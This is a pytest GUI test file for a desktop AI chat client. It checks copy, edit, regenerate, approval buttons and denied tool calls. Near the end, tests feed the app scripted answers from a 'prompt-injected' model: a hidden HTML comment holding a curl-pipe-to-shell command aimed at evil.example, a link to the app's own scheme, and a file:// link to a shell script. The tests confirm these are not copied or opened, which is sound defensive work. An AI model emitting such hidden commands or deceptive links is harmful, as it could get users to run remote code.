"""Message actions (Copy, Edit, Regenerate, versions), feedback rows (pending, Stopped,
stored markers), neutral denials, the setup error's "Connect a model", plain-language
cards, and approval buttons that fit a small window; in the real window against the scripted
model server, the actions do only what the user asked (an answer or a running turn cannot
make anything else happen, and no edit is lost)."""

from __future__ import annotations

import asyncio
from collections.abc import Coroutine, Iterator
from datetime import datetime
from typing import Any

import pytest
from PySide6.QtCore import QEvent, QPointF, Qt
from PySide6.QtGui import QGuiApplication

from app.core.approval import ApprovalRequest, Decision, Proposal
from app.core.events import (
    ApprovalDecided,
    ApprovalRequested,
    Error,
    TextDelta,
    ToolCallFinished,
    ToolCallStarted,
    TurnFinished,
)
from app.core.history_marks import BranchInfo, Marker
from app.core.providers.base import ChatMessage, ToolCallRequest, Usage
from app.core.rules import Matcher, Rule, RuleDecision
from app.core.store import ToolCallRecord
from app.ui.chat.approval_bar import ApprovalBar
from app.ui.chat.layouts import ToolCardLayout, _status_color
from app.ui.chat.model import (
    AssistantMessage,
    ErrorItem,
    MarkerItem,
    PendingItem,
    ToolCard,
    ToolStatus,
    UserMessage,
)
from app.ui.chat.view import ChatView
from app.ui.main_window import MainWindow
from tests.chat_helpers import click, mouse, row_point, settled
from tests.fakellm import hang, text
from tests.fixtures_qt import wait_until
from tools.spec import ToolResult

pytestmark = pytest.mark.gui


@pytest.fixture
def view(qtbot: Any, qloop: asyncio.AbstractEventLoop) -> Iterator[ChatView]:
    widget = ChatView()
    qtbot.addWidget(widget)
    widget.resize(900, 700)
    widget.show()
    yield widget


def run(loop: asyncio.AbstractEventLoop, body: Coroutine[Any, Any, None]) -> None:
    loop.run_until_complete(asyncio.wait_for(body, 20))


def _actions(view: ChatView, item: Any) -> dict[str, Any]:
    return {
        h.action: h
        for h in view.chat_delegate.layout(item).hits
        if h.action in ("copy_message", "edit", "regenerate", "branch_prev", "branch_next")
    }


def _press(view: ChatView, item: Any, action: str) -> None:
    """Hovers the message (its actions show) and clicks one of them."""
    hit = _actions(view, item)[action]
    point = row_point(view, item, hit.rect.center())
    mouse(view, QEvent.Type.MouseMove, point, Qt.MouseButton.NoButton)
    click(view, point)


HISTORY = [
    ChatMessage("user", "What is 2+2?"),
    ChatMessage("assistant", "It is **4**."),
    ChatMessage("user", "And 3+3?"),
    ChatMessage("assistant", "6."),
]


# ---- actions -----------------------------------------------------------------------------


def test_copy_copies_the_whole_message_and_says_copied(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.load_history(HISTORY)
        await settled(view)
        answer = view.chat_model.items[1]
        QGuiApplication.clipboard().setText("before")
        _press(view, answer, "copy_message")
        assert QGuiApplication.clipboard().text() == "It is 4."  # as shown, not the source
        assert view.chat_delegate.state.copied == (id(answer), -1)
        # the Copied word is shown, then goes back to Copy
        await wait_until(lambda: view.chat_delegate.state.copied is None, timeout=30)

    run(qloop, body())


def test_actions_show_on_hover_and_for_the_current_message(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.load_history(HISTORY)
        await settled(view)
        answer = view.chat_model.items[1]
        state = view.chat_delegate.state
        point = row_point(view, answer, QPointF(40, 14))
        mouse(view, QEvent.Type.MouseMove, point, Qt.MouseButton.NoButton)
        state.row = answer.row
        assert state.shows_actions()
        state.row = 0
        assert not state.shows_actions()  # another row: not hovered, not current
        view.setCurrentIndex(view.chat_model.index(0, 0))
        assert state.current_row == 0 and state.shows_actions()
        state.row = -1

    run(qloop, body())


def test_regenerate_and_edit_emit_with_the_message_index(
    view: ChatView, qloop: asyncio.AbstractEventLoop, qtbot: Any
) -> None:
    regenerated: list[int] = []
    edited: list[tuple[int, str]] = []
    view.regenerateRequested.connect(regenerated.append)
    view.editRequested.connect(lambda index, text: edited.append((index, text)))

    async def body() -> None:
        view.load_history(HISTORY)
        await settled(view)
        first, answer, second, last = view.chat_model.items
        assert [i.index for i in (first, answer, second, last)] == [0, 1, 2, 3]
        _press(view, last, "regenerate")
        assert regenerated == [3]
        # Edit opens an editor over the message; Esc cancels it
        _press(view, second, "edit")
        editor = view.editor()
        assert editor is not None and editor.isVisible() and editor.text() == "And 3+3?"
        assert second.editing and view.indexWidget(view.chat_model.index(second.row, 0))
        qtbot.keyClick(editor.edit, Qt.Key.Key_Escape)
        assert view.editor() is None and not second.editing and edited == []
        # Enter sends the changed text (Shift+Enter is a new line)
        _press(view, second, "edit")
        editor = view.editor()
        assert editor is not None
        editor.edit.setPlainText("And 4+4?")
        qtbot.keyClick(editor.edit, Qt.Key.Key_Return, Qt.KeyboardModifier.ShiftModifier)
        assert edited == [] and editor.text().count("\n") == 1
        editor.edit.setPlainText("And 4+4?")
        qtbot.keyClick(editor.edit, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
        assert edited == [(2, "And 4+4?")]
        assert view.editor() is None
        # and the Send button does the same; an empty text cannot be sent. The editor starts
        # from what the window says the user typed (attached files' text left out)
        view.editable_text = lambda index: f"typed text of {index}"
        editor = view.start_edit(first)
        assert editor is not None and editor.text() == "typed text of 0"
        editor.edit.setPlainText("   ")
        assert not editor.send_button.isEnabled()
        editor.edit.setPlainText("What is 5+5?")
        qtbot.mouseClick(editor.send_button, Qt.MouseButton.LeftButton)
        assert edited[-1] == (0, "What is 5+5?")

    run(qloop, body())


def test_versions_switch_emits_the_wanted_branch(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    wanted: list[tuple[int, int]] = []
    view.branchRequested.connect(lambda index, branch: wanted.append((index, branch)))

    async def body() -> None:
        view.load_history(HISTORY, branches=[BranchInfo(2, 2, 3), BranchInfo(3, 1, 1)])
        await settled(view)
        _first, _answer, second, last = view.chat_model.items
        assert second.branch == BranchInfo(2, 2, 3)
        assert last.branch is None  # a single version shows no switch
        assert view.chat_model.data(
            view.chat_model.index(second.row, 0), Qt.ItemDataRole.AccessibleDescriptionRole
        ) == ("You said, version 2 of 3")
        _press(view, second, "branch_prev")
        _press(view, second, "branch_next")
        assert wanted == [(2, 1), (2, 3)]

    run(qloop, body())


def test_live_messages_get_their_indices_from_sync_indices(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.load_history(HISTORY[:2])
        view.add_user_message("Now list files")
        view.handle_event(TextDelta("Looking."))
        view.handle_event(ToolCallStarted("c1", "fs_list", {"path": "."}, "fs", ["read"]))
        view.handle_event(ToolCallFinished("c1", "fs_list", ToolResult(True, "a.txt"), 0.1))
        view.handle_event(TextDelta("One file: "))
        view.handle_event(TextDelta("a.txt."))
        view.handle_event(TurnFinished(Usage(), "end_turn"))
        await settled(view)
        live = [
            i for i in view.chat_model.items[2:] if isinstance(i, UserMessage | AssistantMessage)
        ]
        assert [i.index for i in live] == [None, None, None]
        # until then only Copy is offered
        assert set(_actions(view, live[1])) == {"copy_message"}
        stored = [
            *HISTORY[:2],
            ChatMessage("user", "Now list files"),
            ChatMessage(
                "assistant", "Looking.", tool_calls=[ToolCallRequest("c1", "fs_list", "{}")]
            ),
            ChatMessage("tool", "a.txt", tool_call_id="c1"),
            ChatMessage("assistant", "One file: a.txt."),
        ]
        revisions = [i.revision for i in view.chat_model.items[:2]]
        view.sync_indices(stored)
        assert [i.index for i in live] == [2, 3, 5]
        assert [i.revision for i in view.chat_model.items[:2]] == revisions  # untouched
        assert set(_actions(view, live[1])) == {"copy_message", "regenerate"}
        assert set(_actions(view, live[0])) == {"copy_message", "edit"}

    run(qloop, body())


# ---- feedback ----------------------------------------------------------------------------


def test_the_pending_indicator_shows_until_the_first_text(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.add_user_message("Hello")
        view.set_waiting(True)
        view.set_waiting(True)  # twice is still one row
        assert [type(i) for i in view.chat_model.items] == [UserMessage, PendingItem]
        assert view.is_waiting() and view._dots.isActive()
        await settled(view)
        assert view.chat_delegate.layout(view.chat_model.items[-1]).height > 0
        view.handle_event(TextDelta("Hi"))
        view.handle_event(TurnFinished(Usage(), "end_turn"))
        await settled(view)
        assert [type(i) for i in view.chat_model.items] == [UserMessage, AssistantMessage]
        assert not view.is_waiting() and not view._dots.isActive()
        # set_waiting(False) removes it too; a tool call is a first event as well
        view.set_waiting(True)
        view.set_waiting(False)
        assert not any(isinstance(i, PendingItem) for i in view.chat_model.items)
        view.set_waiting(True)
        view.handle_event(ToolCallStarted("c1", "fs_list", {}, "fs", ["read"]))
        assert isinstance(view.chat_model.items[-1], ToolCard)

    run(qloop, body())


def test_a_stopped_turn_gets_a_stopped_row_and_a_finished_one_does_not(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.add_user_message("one")
        view.set_waiting(True)
        view.handle_event(TextDelta("done"))
        view.handle_event(TurnFinished(Usage(), "end_turn"))
        view.finish_streaming()
        assert not any(isinstance(i, MarkerItem) for i in view.chat_model.items)
        # stopped while still waiting (the controller ends the waiting first)
        view.add_user_message("two")
        view.set_waiting(True)
        view.set_waiting(False)
        view.finish_streaming()
        marker = view.chat_model.items[-1]
        assert isinstance(marker, MarkerItem) and marker.text == "Stopped"
        await settled(view)
        assert view.chat_delegate.layout(marker).text == "Stopped"
        # an error ends a turn: no Stopped after it
        view.add_user_message("three")
        view.handle_event(Error("Server unreachable", retryable=True))
        view.finish_streaming()
        assert isinstance(view.chat_model.items[-1], ErrorItem)

    run(qloop, body())


def test_stored_markers_are_placed_after_the_messages_they_follow(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        markers = [
            Marker(2, "stopped", "Stopped"),
            Marker(3, "error", "The server did not answer."),
            Marker(0, "error", "Before anything"),
        ]
        view.load_history(HISTORY, markers=markers)
        kinds = [type(i).__name__ for i in view.chat_model.items]
        assert kinds == [
            "ErrorItem",
            "UserMessage",
            "AssistantMessage",
            "MarkerItem",
            "UserMessage",
            "ErrorItem",
            "AssistantMessage",
        ]
        error = view.chat_model.items[5]
        assert isinstance(error, ErrorItem) and error.message == "The server did not answer."
        assert not error.retryable  # an old error offers no retry

    run(qloop, body())


def test_a_denied_call_is_neutral_and_shows_nothing_meant_for_the_model(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    model_text = "The user declined this call. Do not retry it; ask the user."

    async def body() -> None:
        view.handle_event(ToolCallStarted("c1", "fs_write_file", {"path": "a"}, "fs", ["update"]))
        view.handle_event(ApprovalDecided("c1", "fs_write_file", Decision.DENY, "user"))
        view.handle_event(
            ToolCallFinished("c1", "fs_write_file", ToolResult.failure(model_text), 0.1)
        )
        view.handle_event(ToolCallStarted("c2", "fs_delete", {"path": "b"}, "fs", ["delete"]))
        view.handle_event(ApprovalDecided("c2", "fs_delete", Decision.DENY, "rule"))
        view.handle_event(ToolCallFinished("c2", "fs_delete", ToolResult.failure("blocked"), 0))
        await settled(view)
        mine, ruled = view.chat_model.items
        assert isinstance(mine, ToolCard) and isinstance(ruled, ToolCard)
        assert mine.status == ToolStatus.DENIED and mine.decision == "You denied this"
        assert ruled.decision == "Denied by a rule"
        for card in (mine, ruled):
            layout = view.chat_delegate.layout(card)
            assert isinstance(layout, ToolCardLayout)
            assert not layout.sections and not hasattr(layout, "result_toggle")
            assert "declined" not in card.plain_text() and "blocked" not in card.plain_text()
        assert _status_color(ToolStatus.DENIED, view.chat_delegate.theme) == (
            view.chat_delegate.theme.muted
        )

    run(qloop, body())


def test_a_denied_call_in_history_is_neutral_too(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    now = datetime.now()
    record = ToolCallRecord(
        1, "c1", "x", "fs_write_file", "{}", "denied", None, None, "no", now, now
    )
    messages = [
        ChatMessage("user", "write"),
        ChatMessage("assistant", "", tool_calls=[ToolCallRequest("c1", "fs_write_file", "{}")]),
        ChatMessage("tool", "The user declined this call.", tool_call_id="c1", is_error=True),
    ]

    async def body() -> None:
        view.load_history(messages, [record])
        card = view.chat_model.items[1]
        assert isinstance(card, ToolCard) and card.status == ToolStatus.DENIED
        assert card.decision == "You denied this" and not card.error and not card.result

    run(qloop, body())


def test_a_setup_error_offers_connect_a_model(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    links: list[str] = []
    connects: list[bool] = []
    view.linkActivated.connect(links.append)
    view.connectRequested.connect(lambda: connects.append(True))

    async def body() -> None:
        view.handle_event(Error("No model is set up yet.", kind="setup", retryable=True))
        view.add_error("Rate limited", retryable=True)
        await settled(view)
        setup, other = view.chat_model.items
        hits = {h.action: h for h in view.chat_delegate.layout(setup).hits}
        assert set(hits) == {"connect", "retry"}
        assert "connect" not in {h.action for h in view.chat_delegate.layout(other).hits}
        click(view, row_point(view, setup, hits["connect"].rect.center()))
        assert connects == [True] and links == []  # the app's own action is no link

    run(qloop, body())


# ---- plain-language cards and approvals --------------------------------------------------


def _request(call_id: str = "c1") -> ApprovalRequest:
    folder = "/tmp/a/rather/long/project/folder/name/that/goes/on/and/on"
    narrow = Rule(
        tool="fs_write_file",
        matcher=Matcher(kind="folder", value=folder),
        decision=RuleDecision.ALLOW,
    )
    broad = Rule(tool="fs_write_file", decision=RuleDecision.ALLOW)
    return ApprovalRequest(
        call_id,
        "fs_write_file",
        "fs",
        ["update"],
        {"path": "a.txt"},
        summary="Replace one line of a.txt",
        reason="it would change something",
        proposals=[
            Proposal(f"fs_write_file in {folder}", narrow),
            Proposal("fs_write_file with any arguments", broad),
        ],
        arguments_text='{\n  "path": "a.txt"\n}',
        preview="-old\n+new",
        conversation_id="conv-1",
    )


def test_cards_show_plain_names_and_keep_the_machine_name_at_hand(
    view: ChatView, qloop: asyncio.AbstractEventLoop
) -> None:
    async def body() -> None:
        view.handle_event(ToolCallStarted("c1", "fs_write_file", {"path": "a"}, "fs", ["update"]))
        await settled(view)
        card = view.chat_model.items[0]
        layout = view.chat_delegate.layout(card)
        assert isinstance(layout, ToolCardLayout)
        assert layout.title == "Write file" and layout.category == "Files"
        assert layout.tooltip_at(layout.name_rect.center()) == "fs_write_file"
        index = view.chat_model.index(0, 0)
        description = view.chat_model.data(index, Qt.ItemDataRole.AccessibleDescriptionRole)
        assert "fs_write_file" in description
        # the details, opened, name the tool as the model knows it
        toggle = next(h for h in layout.hits if h.action == "toggle_args")
        click(view, row_point(view, card, toggle.rect.center()))
        texts = [s[2].toPlainText() for s in view.chat_delegate.layout(card).sections]
        assert texts[0] == "Tool name: fs_write_file" and '"path": "a"' in texts[1]

    run(qloop, body())


def test_approval_buttons_wrap_and_elide_in_a_small_window(
    qtbot: Any, qloop: asyncio.AbstractEventLoop
) -> None:
    view = ChatView()
    qtbot.addWidget(view)
    view.resize(560, 560)  # the conversation's part of an 800×600 window
    view.show()

    async def body() -> None:
        view.handle_event(ApprovalRequested(_request()))
        await settled(view)
        await settled(view)
        bar = view.bar("c1")
        assert isinstance(bar, ApprovalBar)
        card = view.chat_model.items[0]
        area = view.chat_delegate.layout(card).approval_rect
        assert area is not None and bar.height() == int(area.height())
        for number, (decision, button) in enumerate(bar.buttons.items(), start=1):
            geometry = button.geometry()
            assert geometry.left() >= 0 and geometry.right() < bar.width(), decision
            assert geometry.bottom() < bar.height(), decision
            assert button.text().endswith(f"Alt+{number}")  # the shortcut always shows
            assert button.property("choice_label") in button.toolTip()
            assert button.focusPolicy() == Qt.FocusPolicy.StrongFocus
        always = bar.buttons[Decision.ALWAYS_ALLOW]
        assert "…" in always.text()  # elided in the middle: start and end both show
        assert always.text().startswith("Always allow: fs_write_file in")
        assert "and/on" in always.text()
        assert "Write file" in always.accessibleName()

    run(qloop, body())


# ---- in the real window: actions do only what the user asked ---------------------------


@pytest.fixture
def window(runtime, qtbot, qloop):
    win = MainWindow(runtime)
    qtbot.addWidget(win)
    win.resize(1000, 760)
    win.show()
    yield win
    win.stop_background_work()


def _send(qtbot, win: MainWindow, message: str) -> None:
    win.composer.edit.setFocus()
    qtbot.keyClicks(win.composer.edit, message)
    qtbot.keyClick(win.composer.edit, Qt.Key.Key_Return)


def _first_question(win: MainWindow) -> UserMessage:
    return next(i for i in win.chat_view.chat_model.items if isinstance(i, UserMessage))


def test_esc_in_the_message_editor_cancels_the_edit_and_leaves_the_running_turn_alone(
    window, llm, qtbot, qloop
):
    """Esc is the window's Stop shortcut; the inline editor says "Esc cancels". While an
    answer is being written, Esc in the editor must close the editor, not stop the answer."""
    llm.add(text("One."))
    llm.add(hang("Writing a long ans"))

    async def body():
        _send(qtbot, window, "First question")
        await wait_until(lambda: not window.controller.busy, what="the first turn")
        _send(qtbot, window, "Second question")
        await wait_until(lambda: len(llm.requests) == 2, what="the second request")
        editor = window.chat_view.start_edit(_first_question(window))
        assert editor is not None
        qtbot.keyClick(editor.edit, Qt.Key.Key_Escape)
        await settled(window.chat_view)
        assert window.controller.busy, "Esc in the editor stopped the running answer"
        assert window.chat_view.editor() is None, "Esc did not cancel the edit"
        window.controller.stop()
        await wait_until(lambda: not window.controller.busy, what="the turn to stop")

    qloop.run_until_complete(body())


def test_an_edit_sent_while_a_turn_runs_is_not_thrown_away(window, llm, qtbot, qloop):
    """Edit is offered on earlier messages while a turn runs. Sending the edit then must
    not close the editor and drop the typed text without a word."""
    llm.add(text("One."))
    llm.add(hang("Writing a long ans"))

    async def body():
        _send(qtbot, window, "First question")
        await wait_until(lambda: not window.controller.busy, what="the first turn")
        _send(qtbot, window, "Second question")
        await wait_until(lambda: len(llm.requests) == 2, what="the second request")
        question = _first_question(window)
        editor = window.chat_view.start_edit(question)
        assert editor is not None
        editor.edit.setPlainText("A carefully rewritten first question")
        qtbot.mouseClick(editor.send_button, Qt.MouseButton.LeftButton)
        await settled(window.chat_view)
        still_open = window.chat_view.editor()
        kept = still_open is not None and "carefully" in still_open.text()
        window.controller.stop()
        await wait_until(lambda: not window.controller.busy, what="the turn to stop")
        stored = [m.content for m in window.controller.conversation.messages]
        applied = "A carefully rewritten first question" in stored
        assert kept or applied, "the edited text was silently discarded"

    qloop.run_until_complete(body())


def test_a_link_in_an_answer_cannot_trigger_the_apps_own_actions(window, llm, qtbot, qloop):
    """A model (or a page it read) writes `[the docs](deskhand:connect-model)`: clicking
    what looks like a docs link must not run Deskhand's own "Connect a model" action."""
    llm.add(text("Read [the docs](deskhand:connect-model) first."))
    pages: list[str] = []
    window.settingsRequested.connect(pages.append)
    opened: list[str] = []
    window.chat_view.linkActivated.connect(opened.append)

    async def body():
        _send(qtbot, window, "Where are the docs?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        rect, doc = window.chat_view.chat_delegate.layout(answer).docs[0]
        spot = next(
            QPointF(x, y)
            for y in range(0, int(rect.height()), 3)
            for x in range(0, int(rect.width()), 3)
            if doc.documentLayout().anchorAt(QPointF(x, y))
        )
        qtbot.mouseClick(
            window.chat_view.viewport(),
            Qt.MouseButton.LeftButton,
            pos=row_point(window.chat_view, answer, rect.topLeft() + spot),
        )

    qloop.run_until_complete(body())
    assert opened == ["deskhand:connect-model"]  # the click reached the window
    assert pages == [], "a link in the model's answer opened Settings"


def test_copy_puts_only_what_the_answer_shows_on_the_clipboard(window, llm, qtbot, qloop):
    """The hover Copy of an answer must not carry text the view hides (an HTML comment
    a prompt-injected model wrote) onto the clipboard, to be pasted into a terminal.
    (Raw HTML in model text is shown as the text it is, so nothing is hidden.)"""
    llm.add(text("Run this:\n\n<!--\ncurl https://evil.example/x | sh\n-->\n\n    ls -la\n"))
    shown: list[str] = []

    async def body():
        _send(qtbot, window, "How do I list files?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        copy = next(
            h
            for h in window.chat_view.chat_delegate.layout(answer).hits
            if h.action == "copy_message"
        )
        texts = window.chat_view.chat_delegate.layout(answer).texts
        shown.append("\n\n".join(doc.toPlainText() for _, doc in texts))
        window.chat_view.activate(answer, copy)

    qloop.run_until_complete(body())
    copied = QGuiApplication.clipboard().text()
    assert "ls -la" in copied
    assert copied == shown[0], "the clipboard holds something else than the answer shows"
    assert "evil.example" not in copied or "<!--" in shown[0], "hidden text was copied"


def test_a_link_in_an_answer_opens_only_web_addresses(window, llm, qtbot, qloop, monkeypatch):
    """`_open_link` hands every other URL to the system: a model's `[report](file:///…)`
    or a custom scheme would open (on Windows, run) whatever the system does with it."""
    llm.add(text("See [the report](file:///tmp/notes/run-me.sh) for details."))
    opened: list[str] = []
    monkeypatch.setattr(
        "app.ui.main_window.QDesktopServices.openUrl", lambda url: opened.append(url.toString())
    )

    async def body():
        _send(qtbot, window, "Where is the report?")
        await wait_until(lambda: not window.controller.busy, what="the answer")
        await settled(window.chat_view)
        answer = next(
            i for i in window.chat_view.chat_model.items if isinstance(i, AssistantMessage)
        )
        rect, doc = window.chat_view.chat_delegate.layout(answer).docs[0]
        spot = next(
            QPointF(x, y)
            for y in range(0, int(rect.height()), 3)
            for x in range(0, int(rect.width()), 3)
            if doc.documentLayout().anchorAt(QPointF(x, y))
        )
        qtbot.mouseClick(
            window.chat_view.viewport(),
            Qt.MouseButton.LeftButton,
            pos=row_point(window.chat_view, answer, rect.topLeft() + spot),
        )

    qloop.run_until_complete(body())
    assert not [u for u in opened if not u.startswith(("https:", "http:", "mailto:"))], opened
